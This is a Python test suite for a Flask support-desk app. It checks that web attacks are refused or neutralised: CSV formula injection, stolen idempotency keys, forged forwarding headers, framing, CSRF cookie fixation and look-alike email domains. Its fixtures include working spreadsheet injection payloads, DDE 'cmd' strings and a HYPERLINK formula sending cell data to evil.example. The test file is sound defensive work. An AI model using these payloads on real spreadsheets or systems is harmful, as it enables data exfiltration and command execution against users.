"""Attacks on the web side, made through HTTP: each is refused or made harmless.

Formulas in downloaded CSV, another client's idempotency key, a forged forwarding header,
framing and foreign scripts, a public `/metrics`, instants no database can hold, a CSRF cookie
the client chose, and answers without bound.
"""

from __future__ import annotations

import base64
import csv
import io
import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from application.bootstrap import Container
from application.users import Role
from interfaces.web import create_app
from interfaces.web import queries as web_queries
from interfaces.web.spreadsheets import FORMULA_STARTS, cell
from projections.runner import build_runners
from tests.conftest import FakeClock

Headers = dict[str, str]
VICTIM = {"REMOTE_ADDR": "198.51.100.20"}
ATTACKER = {"REMOTE_ADDR": "203.0.113.66"}
README_KEY = {"Idempotency-Key": "3f9c1e52-form-1"}  # the example anyone can read

REQUEST = {
    "email": "learner@example.com",
    "category": "login",
    "course": "Python 101",
    "subject": "Cannot sign in",
    "description": "The password is refused.",
    "language": "en",
}
FORMULAS = {
    "course": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "subject": "+1+cmd|' /C calc'!A0",
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
}


def build(container: Container, **settings: Any) -> Flask:
    """The app, on the test's container, with these settings changed."""
    changed = replace(container, settings=replace(container.settings, **settings))
    return create_app(container=changed)


def caught_up(container: Container) -> None:
    for runner in build_runners(container).values():
        runner.catch_up()


def submitted(client: FlaskClient, **fields: str) -> str:
    answer = client.post("/api/v1/tickets", json={**REQUEST, **fields})
    assert answer.status_code == 201, answer.get_json()
    return str(answer.get_json()["reference"])


def csv_rows(answer: TestResponse) -> list[dict[str, str]]:
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))


def is_problem(answer: TestResponse, status: int) -> bool:
    return answer.status_code == status and answer.mimetype == "application/problem+json"


# ---- formulas in CSV ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_cell_a_spreadsheet_would_run_is_written_as_text(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell(f"x{start}1") == f"x{start}1"  # only a formula's first sign counts
    assert cell(-1) == -1  # a number is no formula


def test_requesters_formulas_reach_agents_and_analysts_csv_as_text(
    client: FlaskClient, container: Container, bearer: Callable[[Role], Headers]
) -> None:
    plain = submitted(client, **FORMULAS)
    wide = submitted(client, course='\uff1dWEBSERVICE("http://evil.example")')
    caught_up(container)
    as_csv = {"Accept": "text/csv"}

    team = {
        row["reference"]: row
        for row in csv_rows(client.get("/api/v1/queue", headers={**bearer(Role.AGENT), **as_csv}))
    }
    for name, text in FORMULAS.items():
        column = {"name": "requester_name"}.get(name, name)
        assert team[plain][column] == "'" + text, column
    assert team[wide]["course"] == '\'\uff1dWEBSERVICE("http://evil.example")'

    analyst = bearer(Role.ANALYST)
    queue = csv_rows(client.get("/api/v1/queue", headers={**analyst, **as_csv}))
    assert {row["course"] for row in queue} == {"'" + FORMULAS["course"], team[wide]["course"]}
    report = csv_rows(
        client.get("/api/v1/reports/sla?group_by=course", headers={**analyst, **as_csv})
    )
    groups = {row["course"] for row in report if row["scope"] == "group"}
    assert groups == {"'" + FORMULAS["course"], team[wide]["course"]}

    as_json = client.get("/api/v1/queue", headers=bearer(Role.SUPERVISOR)).get_json()["items"]
    assert FORMULAS["course"] in {item["course"] for item in as_json}  # JSON keeps the text


# ---- idempotency keys are the caller's own -----------------------------------------------------


def test_another_clients_key_neither_blocks_nor_reads_their_answer(client: FlaskClient) -> None:
    # The attacker takes the documented key first, hoping to answer the victim's submission.
    taken = client.post(
        "/api/v1/tickets",
        json={**REQUEST, "subject": "Mine"},
        headers=README_KEY,
        environ_base=ATTACKER,
    )
    victims = client.post("/api/v1/tickets", json=REQUEST, headers=README_KEY, environ_base=VICTIM)
    # ... then replays the victim's exact request, hoping to read the victim's answer.
    replayed = client.post(
        "/api/v1/tickets", json=REQUEST, headers=README_KEY, environ_base=ATTACKER
    )
    retried = client.post("/api/v1/tickets", json=REQUEST, headers=README_KEY, environ_base=VICTIM)

    assert taken.status_code == victims.status_code == 201
    assert victims.get_json()["reference"] != taken.get_json()["reference"]
    assert "Idempotent-Replayed" not in victims.headers
    assert replayed.status_code == 422  # the attacker's own key, used for another request
    assert "reference" not in replayed.get_data(as_text=True)
    assert retried.headers["Idempotent-Replayed"] == "true"
    assert retried.get_json() == victims.get_json()


def test_a_forwarded_address_is_believed_only_from_trusted_proxies(
    container: Container,
) -> None:
    forged = {"X-Forwarded-For": VICTIM["REMOTE_ADDR"], **README_KEY}
    direct = build(container).test_client()
    victims = direct.post("/api/v1/tickets", json=REQUEST, headers=README_KEY, environ_base=VICTIM)
    spoofed = direct.post("/api/v1/tickets", json=REQUEST, headers=forged, environ_base=ATTACKER)
    assert spoofed.status_code == 201 and "Idempotent-Replayed" not in spoofed.headers
    assert spoofed.get_json()["reference"] != victims.get_json()["reference"]

    proxied = build(container, trusted_proxies=1).test_client()
    proxy = {"REMOTE_ADDR": "127.0.0.1"}
    first = proxied.post(
        "/api/v1/tickets",
        json=REQUEST,
        environ_base=proxy,
        headers={"X-Forwarded-For": "192.0.2.1", "Idempotency-Key": "behind-the-proxy"},
    )
    other = proxied.post(
        "/api/v1/tickets",
        json=REQUEST,
        environ_base=proxy,
        headers={"X-Forwarded-For": "192.0.2.2", "Idempotency-Key": "behind-the-proxy"},
    )
    again = proxied.post(
        "/api/v1/tickets",
        json=REQUEST,
        environ_base=proxy,
        headers={"X-Forwarded-For": "10.9.9.9, 192.0.2.1", "Idempotency-Key": "behind-the-proxy"},
    )
    assert "Idempotent-Replayed" not in other.headers
    assert other.get_json()["reference"] != first.get_json()["reference"]
    assert again.headers["Idempotent-Replayed"] == "true"  # the hop nearest the proxy counts


# ---- what browsers are told --------------------------------------------------------------------


def test_pages_forbid_framing_scripts_and_referrers(client: FlaskClient) -> None:
    for url in ("/support", "/support/status?lang=en", "/api/v1/openapi.json", "/health"):
        answer = client.get(url)
        policy = answer.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy, url
        assert "script-src" not in policy and "unsafe" not in policy, url
        assert answer.headers["X-Frame-Options"] == "DENY"
        assert answer.headers["Referrer-Policy"] == "no-referrer"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    refused = client.post("/support", data={})
    assert "frame-ancestors 'none'" in refused.headers["Content-Security-Policy"]


def test_the_api_reference_loads_only_its_own_assets(client: FlaskClient) -> None:
    page = client.get("/api/docs")
    policy = page.headers["Content-Security-Policy"]

    assert "script-src 'self';" in policy and "connect-src 'self';" in policy
    assert "unsafe" not in policy and "*" not in policy and "http" not in policy
    assert page.headers["X-Frame-Options"] == "DENY"
    html = page.get_data(as_text=True)
    assert "<script>" not in html and " style=" not in html  # nothing inline to allow
    for asset in re.findall(r'(?:src|href)="([^"]+)"', html):
        assert asset.startswith("/api/docs/"), asset
        with client.get(asset) as served:
            assert served.status_code == 200, asset


# ---- /metrics ----------------------------------------------------------------------------------


def test_metrics_answer_only_this_machine_without_a_token(container: Container) -> None:
    client = build(container).test_client()
    assert client.get("/metrics").status_code == 200  # the test client is 127.0.0.1
    assert client.get("/metrics", environ_base={"REMOTE_ADDR": "::1"}).status_code == 200

    outside = client.get("/metrics", environ_base=ATTACKER)
    forged = client.get("/metrics", environ_base=ATTACKER, headers={"X-Forwarded-For": "127.0.0.1"})
    assert is_problem(outside, 403) and is_problem(forged, 403)
    assert "supportdesk_" not in outside.get_data(as_text=True)


def test_metrics_with_a_token_answer_only_that_token(container: Container) -> None:
    client = build(container, metrics_token="scrape-secret").test_client()

    assert is_problem(client.get("/metrics"), 403)  # this machine too needs it
    wrong = {"Authorization": "Bearer scrape-secreT"}
    assert is_problem(client.get("/metrics", headers=wrong), 403)
    right = {"Authorization": "Bearer scrape-secret"}
    assert client.get("/metrics", headers=right, environ_base=ATTACKER).status_code == 200


# ---- instants no database can hold -------------------------------------------------------------


def forged_cursor(instant: str, reference: str = "CM-0000-0000") -> str:
    return base64.urlsafe_b64encode(f"{instant}|{reference}".encode()).decode()


EXTREMES = [
    "9999-12-31T23:59:59+00:00",
    "9999-12-31T23:59:59.999999-14:00",
    "0001-01-01T00:00:00+00:00",
    "0001-01-01T00:00:00+14:00",
    "0001-01-01T00:00:00",
]


def test_extreme_instants_are_refused_as_unprocessable(
    client: FlaskClient, bearer: Callable[[Role], Headers]
) -> None:
    ref = submitted(client)
    supervisor = bearer(Role.SUPERVISOR)
    auditor = bearer(Role.AUDITOR)
    for instant in EXTREMES:
        extended = client.post(
            f"/api/v1/tickets/{ref}/extend",
            json={"resolution_due": instant, "reason": "Waiting on the vendor"},
            headers=supervisor,
        )
        assert is_problem(extended, 422) and "resolution_due" in extended.get_json()["errors"]
        for path in ("/api/v1/queue", "/api/v1/suggestions"):
            paged = client.get(
                path, query_string={"cursor": forged_cursor(instant)}, headers=supervisor
            )
            assert is_problem(paged, 422) and "cursor" in paged.get_json()["errors"], (
                path,
                instant,
            )
        as_of = client.get(
            f"/api/v1/tickets/{ref}/history", query_string={"as_of": instant}, headers=auditor
        )
        assert is_problem(as_of, 422), instant
    for bounds in ({"from": "0001-01-01"}, {"to": "9999-12-31"}, {"from": EXTREMES[1]}):
        report = client.get("/api/v1/reports/sla", query_string=bounds, headers=supervisor)
        assert is_problem(report, 422), bounds
        assert set(report.get_json()["errors"]) <= {"from", "to"}


def test_instants_in_the_era_are_still_taken(
    client: FlaskClient, bearer: Callable[[Role], Headers]
) -> None:
    supervisor = bearer(Role.SUPERVISOR)
    in_range = {"from": "2000-01-01", "to": "2100-12-31T23:00:00+00:00"}
    assert (
        client.get("/api/v1/reports/sla", query_string=in_range, headers=supervisor).status_code
        == 200
    )
    ref = submitted(client)
    extended = client.post(
        f"/api/v1/tickets/{ref}/extend",
        json={"resolution_due": "2026-11-20T10:00:00+03:00", "reason": "Waiting on the vendor"},
        headers=supervisor,
    )
    assert extended.status_code == 200, extended.get_json()


# ---- the form ----------------------------------------------------------------------------------


def test_head_of_the_pages_answers_as_get_without_a_body(client: FlaskClient) -> None:
    for url in ("/support", "/support/status", "/support?lang=en"):
        head, get = client.head(url), client.get(url)
        assert head.status_code == get.status_code == 200, url
        assert head.mimetype == "text/html" and head.get_data() == b""


def token_of(answer: TestResponse) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', answer.get_data(as_text=True))
    assert found, "the page has no CSRF token"
    return found.group(1)


def test_a_csrf_cookie_the_client_chose_is_worthless(app: Flask, container: Container) -> None:
    chosen = "attacker-chosen-nonce-0123456789"
    attacker, victim = app.test_client(), app.test_client()
    for browser in (attacker, victim):  # the attacker plants the same cookie in the victim's
        browser.set_cookie("supportdesk_form", chosen, path="/support")
    token = token_of(attacker.get("/support"))

    forged = victim.post("/support", data={**REQUEST, "name": "", "csrf_token": token})

    assert forged.status_code == 400
    assert container.desk.recorder.max_notification_id() in (None, 0)
    issued = victim.get_cookie("supportdesk_form", path="/support")
    assert issued is not None and issued.value != chosen  # a genuine one replaces it
    genuine = victim.post("/support", data={**REQUEST, "name": "", "csrf_token": token_of(forged)})
    assert genuine.status_code == 200


# ---- bounded answers ---------------------------------------------------------------------------


def test_a_report_lists_a_bounded_number_of_groups_and_says_how_many(
    client: FlaskClient,
    container: Container,
    bearer: Callable[[Role], Headers],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(web_queries, "MAX_REPORT_GROUPS", 2)
    for course in ("A", "B", "C"):
        submitted(client, course=course)
    caught_up(container)
    analyst = bearer(Role.ANALYST)

    body = client.get("/api/v1/reports/sla?group_by=course", headers=analyst)
    as_csv = client.get(
        "/api/v1/reports/sla?group_by=course", headers={**analyst, "Accept": "text/csv"}
    )

    assert [group["group"] for group in body.get_json()["groups"]] == ["A", "B"]
    assert body.get_json()["total"]["tickets"] == 3  # the total covers every group
    assert body.headers["X-Groups-Total"] == as_csv.headers["X-Groups-Total"] == "3"
    assert [row["scope"] for row in csv_rows(as_csv)] == ["group", "group", "total"]


def test_a_tickets_history_is_paged(
    client: FlaskClient, container: Container, clock: FakeClock, bearer: Callable[[Role], Headers]
) -> None:
    ref = submitted(client)
    for reply in range(3):
        clock.advance(minutes=5)
        container.desk.respond(ref, message=f"reply {reply}", actor="nora")
    auditor = bearer(Role.AUDITOR)
    url = f"/api/v1/tickets/{ref}/history"

    first = client.get(url, query_string={"limit": 3}, headers=auditor).get_json()
    rest = client.get(url, query_string={"after": first["next_after"], "limit": 3}, headers=auditor)
    whole = client.get(url, headers=auditor).get_json()
    then = client.get(url, query_string={"version": 3, "limit": 2}, headers=auditor).get_json()

    assert [e["version"] for e in first["events"]] == [1, 2, 3] and first["next_after"] == 3
    assert [e["version"] for e in rest.get_json()["events"]] == [4]
    assert rest.get_json()["next_after"] is None
    assert len(whole["events"]) == 4 and whole["next_after"] is None
    assert [e["version"] for e in then["events"]] == [1, 2] and then["next_after"] == 2
    too_many = client.get(url, query_string={"limit": 1001}, headers=auditor)
    assert is_problem(too_many, 422) and "limit" in too_many.get_json()["errors"]


@pytest.mark.parametrize("email", ["learner@p\u0430ypal.com", "learner@xn--pypal-4ve.com"])
def test_a_look_alike_domain_is_refused_as_a_requesters_email(
    client: FlaskClient, email: str
) -> None:
    # A receipt to a Cyrillic-`а` "paypal.com" would lend the desk's name to a phisher.
    answer = client.post("/api/v1/tickets", json={**REQUEST, "email": email})
    assert answer.status_code == 422, answer.get_data(as_text=True)
    assert "email" in answer.get_json()["errors"]


def test_an_arabic_domain_is_still_taken(client: FlaskClient) -> None:
    answer = client.post(
        "/api/v1/tickets",
        json={
            **REQUEST,
            "email": "learner@\u0645\u062b\u0627\u0644.\u0627\u062e\u062a\u0628\u0627\u0631",
        },
    )
    assert answer.status_code == 201, answer.get_data(as_text=True)
